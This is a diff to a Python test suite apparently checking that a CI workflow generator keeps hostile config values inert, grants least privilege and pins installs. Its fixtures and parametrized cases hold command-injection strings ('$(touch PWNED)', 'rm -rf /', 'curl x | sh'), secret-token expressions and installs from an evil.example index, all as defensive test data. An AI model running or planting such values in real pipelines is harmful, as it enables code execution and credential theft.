@@ -27,35 +27,46 @@ project: hostile-demo
 storage:
   default: remote_1
   remotes:
-    remote_1: {url: "s3://bucket/dvc store/$(touch PWNED)"}
+    remote_1: {url: "s3://bucket/dvc store/$(touch PWNED)/${{ secrets.GITHUB_TOKEN }}"}
 environments:
   qa_1:
-    target: {kind: directory, path: "deploy/qa $(touch PWNED)/`id`"}
+    description: "${{ github.event.pull_request.body }} `id`"
+    target: {kind: directory, path: "deploy/qa $(touch PWNED)/`id`/${{ github.token }}"}
   prod-eu:
     requires: qa_1
     approval: true
-    target: {kind: s3, url: s3://models/prod, endpoint_url: "http://127.0.0.1:9000"}
+    description: "${{ secrets.MLOPS_TARGET_AWS_SECRET_ACCESS_KEY }}"
+    target:
+      kind: s3
+      url: s3://models/prod
+      endpoint_url: "http://127.0.0.1:9000"
 ci:
   python: "3.12"
   runs_on: ubuntu-latest
   main_branch: release/2026.1
-  install: "mlops-runner==0.1.0; touch PWNED ${{ secrets.GITHUB_TOKEN }}"
+  install: "./tools/mlops_runner-0.1.0-py3-none-any.whl"
 """
 
 HOSTILE_PIPELINE = """\
 description: "${{ github.event.issue.title }} `id` $(touch PWNED)"
 params:
   label: "x; touch PWNED ${{ github.token }}"
+  note: "${{ secrets.GITHUB_TOKEN }}"
 stages:
-  ingest: {step: ingest, with: {source: "data/raw file $(x).csv"}}
-  split: {step: split, with: {target: "y; rm -rf /"}}
+  ingest: {step: ingest, with: {source: "data/raw file $(x) ${{ github.ref }}.csv"}}
+  split: {step: split, with: {target: "y; rm -rf / ${{ github.actor }}"}}
   train: {step: train, with: {estimator: sklearn.linear_model.LogisticRegression}}
   evaluate: {step: evaluate}
   report:
-    cmd: python report.py    # reads the label from params.yaml: no shell sees it
+    cmd: python report.py "${{ github.event.pull_request.title }}"  # no shell in CI sees it
     params: [label]
     deps: ["docs/$(touch PWNED).md"]
     outs: ["out/re port.html"]
+gates:
+  baseline: qa_1
+  no_baseline: absolute-only
+  rules:
+    - {metric: accuracy, min: 0.5}
 deploy:
   model: hostile_model-2
   environments: [qa_1, prod-eu]
@@ -139,6 +150,7 @@ def test_zizmor_auditor_findings_are_the_documented_ones(workflows: Path) -> Non
     found = sorted(set(re.findall(r"^(?:warning|error|help|info)\[([a-z-]+)\]", plain, re.M)))
     # docs/workflows.md explains both: the release job must push the version tag, and
     # the jobs that read the DVC remote use repository secrets (when the remote needs any).
+    # The jobs that push (results commit, version tags) keep their checkout's credentials.
     expected = (
         ["artipacked", "secrets-outside-env"] if "hostile" in str(workflows) else ["artipacked"]
     )
@@ -146,45 +158,139 @@ def test_zizmor_auditor_findings_are_the_documented_ones(workflows: Path) -> Non
     assert "mlops-main.yml" in plain
 
 
-def _jobs(folder: Path) -> list[tuple[str, str, dict[str, Any]]]:
-    return [
-        (name, job_id, job) for name in NAMES for job_id, job in _load(folder, name)["jobs"].items()
-    ]
+# Every job's token permissions and the secrets it reads, exactly: nothing beyond what
+# it uses. `github.token` counts as a secret here: only the jobs that talk to GitHub
+# get it. The hostile fixture's remote is on S3 and its prod-eu target too (qa_1 is a
+# folder); the example needs no credentials at all.
+PERMISSIONS = {
+    ("mlops-pr.yml", "check"): {"contents": "read"},
+    ("mlops-pr.yml", "pipeline"): {"contents": "read"},
+    ("mlops-pr.yml", "results"): {
+        "contents": "write",
+        "statuses": "write",
+        "pull-requests": "write",
+    },
+    ("mlops-pr.yml", "fork"): {"contents": "read", "statuses": "write", "pull-requests": "write"},
+    ("mlops-main.yml", "release"): {"contents": "read"},
+    ("mlops-main.yml", "tag"): {"contents": "write"},
+    ("mlops-main.yml", "deploy"): {"contents": "read"},
+    ("mlops-deploy.yml", "changes"): {"contents": "read"},
+    ("mlops-deploy.yml", "deploy-qa_1"): {"contents": "read"},
+    ("mlops-deploy.yml", "deploy-prod-eu"): {"contents": "read"},
+    ("mlops-deploy.yml", "deploy-staging"): {"contents": "read"},
+    ("mlops-deploy.yml", "deploy-production"): {"contents": "read"},
+}
+REMOTE = {"secrets.MLOPS_REMOTE_AWS_ACCESS_KEY_ID", "secrets.MLOPS_REMOTE_AWS_SECRET_ACCESS_KEY"}
+TARGET = {"secrets.MLOPS_TARGET_AWS_ACCESS_KEY_ID", "secrets.MLOPS_TARGET_AWS_SECRET_ACCESS_KEY"}
+HOSTILE_SECRETS = {
+    ("mlops-pr.yml", "pipeline"): REMOTE,
+    ("mlops-pr.yml", "results"): {"github.token"},
+    ("mlops-pr.yml", "fork"): {"github.token"},
+    ("mlops-main.yml", "release"): REMOTE,
+    ("mlops-main.yml", "deploy"): REMOTE,  # qa_1, a folder: the remote's credentials only
+    ("mlops-deploy.yml", "deploy-qa_1"): REMOTE,
+    # An S3 target's credentials are the environment's, and read the remote too.
+    ("mlops-deploy.yml", "deploy-prod-eu"): TARGET,
+    ("mlops-monitor.yml", "status"): REMOTE,
+}
+EXAMPLE_SECRETS = {
+    ("mlops-pr.yml", "results"): {"github.token"},
+    ("mlops-pr.yml", "fork"): {"github.token"},
+}
+SECRET = re.compile(r"\$\{\{\s*((?:secrets\.[A-Za-z0-9_]+)|github\.token)\s*\}\}")
 
 
-def test_least_privilege_and_timeouts(workflows: Path) -> None:
+def _secrets_of(job: dict[str, Any]) -> set[str]:
+    """Every secret a job can read: its env, its steps' env and `with:`, its conditions."""
+    return set(SECRET.findall(yaml.safe_dump(job)))
+
+
+def test_every_job_has_exactly_the_permissions_and_secrets_it_uses(workflows: Path) -> None:
     for name in NAMES:
         data = _load(workflows, name)
         assert data["permissions"] == {}, name
         assert not {"pull_request_target", "workflow_run"} & set(data["on"]), name
+    expected = HOSTILE_SECRETS if "hostile" in str(workflows) else EXAMPLE_SECRETS
     for name, job_id, job in _jobs(workflows):
-        assert "permissions" in job, (name, job_id)
         assert isinstance(job["timeout-minutes"], int), (name, job_id)
-        writes = {k for k, v in job["permissions"].items() if v == "write"}
-        allowed = {
-            ("mlops-main.yml", "release"): {"contents"},
-            ("mlops-pr.yml", "pipeline"): {"pull-requests"},
-        }
-        assert writes == allowed.get((name, job_id), set()), (name, job_id)
+        if (name, job_id) != ("mlops-monitor.yml", "status"):  # helper h14's
+            assert job["permissions"] == PERMISSIONS[(name, job_id)], (name, job_id)
+        assert _secrets_of(job) == expected.get((name, job_id), set()), (name, job_id)
+        text = (workflows / name).read_text()
+        for line in text.splitlines():
+            if re.search(r"^\s+[a-z-]+: write", line):
+                assert " # " in line, f"{name}: a write permission without its reason: {line}"
+
+
+def test_secrets_of_targets_only_in_their_environments_deploy_job(workflows: Path) -> None:
+    for name, job_id, job in _jobs(workflows):
+        if _secrets_of(job) & TARGET:
+            assert job.get("environment") == "prod-eu", (name, job_id)
+            assert job_id == "deploy-prod-eu", (name, job_id)
 
 
 def test_actions_pinned_to_commits_with_version_comments(workflows: Path) -> None:
     pinned = {f"{repo}@{sha}": tag for repo, sha, tag in ACTIONS.values()}
     for name in NAMES:
         for line in (workflows / name).read_text().splitlines():
-            if "uses:" not in line:
+            if not re.match(r"\s+(- )?uses:", line):
                 continue
             match = re.search(r"uses: (\S+@[0-9a-f]{40}) # (v\d+\.\d+\.\d+)$", line)
             assert match, line
             assert pinned[match[1]] == match[2]
 
 
+PUSHERS = {("mlops-main.yml", "tag"), ("mlops-pr.yml", "results")}
+
+
 def test_checkout_keeps_no_credentials_except_where_pushing(workflows: Path) -> None:
     for name, job_id, job in _jobs(workflows):
         for step in job["steps"]:
             if "actions/checkout@" in step.get("uses", ""):
-                expected = (name, job_id) == ("mlops-main.yml", "release")
+                expected = (name, job_id) in PUSHERS
                 assert step["with"]["persist-credentials"] is expected, (name, job_id)
+
+
+def test_jobs_that_write_run_no_pipeline_and_hold_no_remote_secret(workflows: Path) -> None:
+    for name, job_id, job in _jobs(workflows):
+        writes = {k for k, v in job["permissions"].items() if v == "write" and k == "contents"}
+        runs = [step.get("run", "") for step in job["steps"]]
+        if writes:
+            assert (name, job_id) in PUSHERS
+            assert not any(r.startswith(("mlops run", "dvc ", "mlops register")) for r in runs)
+            assert not _secrets_of(job) & (REMOTE | TARGET), (name, job_id)
+
+
+def test_the_pipeline_job_runs_with_the_results_of_a_fork_split_off(workflows: Path) -> None:
+    pr = _load(workflows, "mlops-pr.yml")
+    same = "github.event.pull_request.head.repo.full_name == github.repository"
+    fork = "github.event.pull_request.head.repo.full_name != github.repository"
+    assert same in pr["jobs"]["results"]["if"] and fork in pr["jobs"]["fork"]["if"]
+    steps = pr["jobs"]["pipeline"]["steps"]
+    pushes = [s for s in steps if s.get("run", "").startswith("dvc push")]
+    assert pushes and all(s["if"] == same for s in pushes)
+
+
+def test_no_install_step_resolves_an_unpinned_name(workflows: Path) -> None:
+    for name, job_id, job in _jobs(workflows):
+        installs = [s for s in job["steps"] if s["name"].startswith("Install mlops-runner")]
+        assert len(installs) == 1, (name, job_id)
+        step = installs[0]
+        value = step["env"]["MLOPS_INSTALL"]
+        if "hostile" in str(workflows):
+            assert value == "./tools/mlops_runner-0.1.0-py3-none-any.whl"  # a path
+            assert step["run"] == 'python -m pip install "$MLOPS_INSTALL"'
+        else:  # the default: a requirements file in which every line has its hash
+            assert value == "requirements/mlops-ci.txt"
+            assert step["run"] == (
+                'python -m pip install --require-hashes --no-deps -r "$MLOPS_INSTALL"'
+            )
+
+
+def _jobs(folder: Path) -> list[tuple[str, str, dict[str, Any]]]:
+    return [
+        (name, job_id, job) for name in NAMES for job_id, job in _load(folder, name)["jobs"].items()
+    ]
 
 
 def test_no_expression_in_run_and_thin_steps(workflows: Path) -> None:
@@ -196,26 +302,10 @@ def test_no_expression_in_run_and_thin_steps(workflows: Path) -> None:
             assert "${{" not in run, (name, job_id, run)
             assert "GITHUB_ENV" not in run
             assert "\n" not in run.strip(), run
-            if step["name"] == "Install mlops-runner":
-                assert run == 'python -m pip install "$MLOPS_INSTALL"'
+            if step["name"].startswith("Install mlops-runner"):
+                assert run.startswith("python -m pip install ") and run.endswith('"$MLOPS_INSTALL"')
             else:
                 assert run.startswith(("mlops ", "dvc ")), run
-
-
-def test_secrets_only_where_the_remote_is_used(workflows: Path) -> None:
-    needs_remote = {
-        ("mlops-pr.yml", "pipeline"),
-        ("mlops-main.yml", "release"),
-        ("mlops-main.yml", "deploy"),
-        ("mlops-monitor.yml", "status"),
-    }
-    hostile = "hostile" in str(workflows)
-    for name, job_id, job in _jobs(workflows):
-        values = [*job.get("env", {}).values()]
-        values += [v for step in job["steps"] for v in step.get("env", {}).values()]
-        uses_secrets = any(str(v).startswith("${{ secrets.") for v in values)
-        expected = hostile and ((name, job_id) in needs_remote or job_id.startswith("deploy-"))
-        assert uses_secrets == expected, (name, job_id)
 
 
 def test_deploy_jobs_use_environments_and_never_cancel(workflows: Path) -> None:
@@ -232,8 +322,9 @@ def test_hostile_values_stay_data(workflows: Path) -> None:
         pytest.skip("only for the hostile fixture")
     pr = _load(workflows, "mlops-pr.yml")
     assert pr["on"]["pull_request"]["branches"] == ["release/2026.1"]
-    install = pr["jobs"]["check"]["steps"][2]["env"]["MLOPS_INSTALL"]
-    assert install == "mlops-runner==0.1.0; touch PWNED ${{ secrets.GITHUB_TOKEN }}"
+    text = "".join((workflows / n).read_text() for n in NAMES)
+    for hostile in ("PWNED", "github.event.issue", "pull_request.body", "`id`", "rm -rf"):
+        assert hostile not in text, hostile  # no free text of the YAML reaches a workflow
     deploy = _load(workflows, "mlops-deploy.yml")
     assert sorted(deploy["jobs"]) == ["changes", "deploy-prod-eu", "deploy-qa_1"]
     assert deploy["jobs"]["deploy-prod-eu"]["environment"] == "prod-eu"
@@ -246,6 +337,12 @@ def test_hostile_values_stay_data(workflows: Path) -> None:
         ("main_branch", '"main; touch PWNED"'),
         ("runs_on", '"ubuntu-latest\\n  evil: true"'),
         ("python", '"3.11\\"; curl x | sh"'),
+        ("install", '"mlops-runner==0.1.0; touch PWNED ${{ secrets.GITHUB_TOKEN }}"'),
+        ("install", '"mlops-runner"'),
+        ("install", '"mlops-runner>=0.1"'),
+        ("install", '"--index-url=https://evil.example/simple mlops-runner==0.1.0"'),
+        ("install", '"./tools/${{ github.head_ref }}.whl"'),
+        ("install", '"https://evil.example/mlops_runner-0.1.0-py3-none-any.whl"'),
     ],
 )
 def test_ci_values_that_could_break_a_workflow_are_refused(
@@ -254,10 +351,18 @@ def test_ci_values_that_could_break_a_workflow_are_refused(
     build_tree(tmp_path, dict(example_files()))
     mlops = tmp_path / "mlops.yaml"
     text = mlops.read_text()
-    text = re.sub(rf"^  {key}: .*$", f"  {key}: {value}", text, flags=re.M)
+    text, found = re.subn(rf"^  {key}: .*$", f"  {key}: {value}", text, flags=re.M)
+    if not found:  # `ci:` ends the example's mlops.yaml
+        assert text.rstrip().splitlines()[-1].startswith("  "), text
+        text = text.rstrip("\n") + f"\n  {key}: {value}\n"
     mlops.write_text(text)
     from runner.errors import ConfigError
 
     with pytest.raises(ConfigError) as info:
         load_workspace(tmp_path)
-    assert info.value.problems[0].message.startswith(f"ci.{key}: the string ")
+    message = info.value.problems[0].message
+    if key == "install":
+        assert message.startswith("ci.install: install '"), message
+        assert message.endswith("or one exactly pinned requirement (name==1.2.3)"), message
+    else:
+        assert message.startswith(f"ci.{key}: the string "), message
